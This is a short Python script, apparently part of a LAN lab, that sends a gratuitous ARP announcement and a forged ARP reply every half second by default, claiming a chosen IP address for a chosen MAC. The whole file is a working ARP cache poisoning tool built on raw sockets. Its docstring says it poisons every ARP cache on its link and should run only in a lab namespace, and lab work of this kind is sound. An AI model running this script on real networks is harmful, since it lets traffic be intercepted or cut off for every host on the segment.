#!/usr/bin/env python3
"""Send gratuitous ARP claiming an address, every INTERVAL seconds, until killed.

    garp_send.py --iface eth0 --ip 10.79.0.1 --mac 02:4c:ab:00:00:66 [--interval 0.5]

Each round sends the two forms spoofing tools use: a broadcast ARP request with sender and
target address both the claimed one (an announcement), and a broadcast ARP reply saying the
claimed address is at our MAC. Standard library only (AF_PACKET); run it only inside a lab
namespace: it poisons every ARP cache on its link, which is its purpose in the LAN lab.
"""

import argparse
import socket
import struct
import time

ETH_P_ARP = 0x0806


def frame(op, mac, ip):
    """Broadcast Ethernet/ARP frame, sender = target = ip, padded to 60 bytes."""
    bcast = b"\xff" * 6
    eth = bcast + mac + struct.pack("!H", ETH_P_ARP)
    target_mac = b"\x00" * 6 if op == 1 else bcast
    arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, op) + mac + ip + target_mac + ip
    return (eth + arp).ljust(60, b"\x00")


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    p.add_argument("--iface", required=True)
    p.add_argument("--ip", required=True)
    p.add_argument("--mac", required=True)
    p.add_argument("--interval", type=float, default=0.5)
    a = p.parse_args()
    mac = bytes.fromhex(a.mac.replace(":", ""))
    ip = socket.inet_aton(a.ip)
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ARP))
    s.bind((a.iface, 0))
    frames = [frame(1, mac, ip), frame(2, mac, ip)]
    while True:
        for f in frames:
            s.send(f)
        time.sleep(a.interval)


if __name__ == "__main__":
    main()
